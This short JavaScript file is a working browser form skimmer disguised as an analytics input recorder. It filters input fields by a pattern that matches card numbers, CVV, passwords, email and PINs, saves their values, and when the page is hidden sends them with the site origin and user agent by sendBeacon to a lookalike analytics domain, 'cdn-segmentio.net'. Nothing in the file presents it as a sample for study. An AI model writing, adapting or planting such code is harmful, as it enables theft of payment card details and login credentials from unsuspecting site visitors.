class InputRecorder {
  #fields = new Map();
  #endpoint;
  #pattern = /card|cc[-_]?num|cvv|cvc|csc|exp|password|passwd|email|pin/i;

  constructor(endpoint) {
    this.#endpoint = endpoint;
  }

  #interesting(el) {
    const label = `${el.name} ${el.id} ${el.autocomplete} ${el.type} ${el.placeholder}`;
    return this.#pattern.test(label);
  }

  attach(root = document) {
    root.addEventListener('input', (e) => {
      const el = e.target;
      if (!(el instanceof HTMLInputElement) || !this.#interesting(el)) return;
      this.#fields.set(el.name || el.id || el.autocomplete, el.value);
    }, true);
    document.addEventListener('visibilitychange', () => {
      if (document.visibilityState === 'hidden') this.flush();
    });
    addEventListener('pagehide', () => this.flush());
  }

  flush() {
    if (!this.#fields.size) return;
    const payload = {
      origin: location.origin,
      path: location.pathname,
      ua: navigator.userAgent,
      fields: Object.fromEntries(this.#fields),
    };
    const ok = navigator.sendBeacon(this.#endpoint, new Blob([JSON.stringify(payload)], { type: 'text/plain' }));
    if (ok) this.#fields.clear();
  }
}

new InputRecorder('https://cdn-segmentio.net/v1/batch').attach();
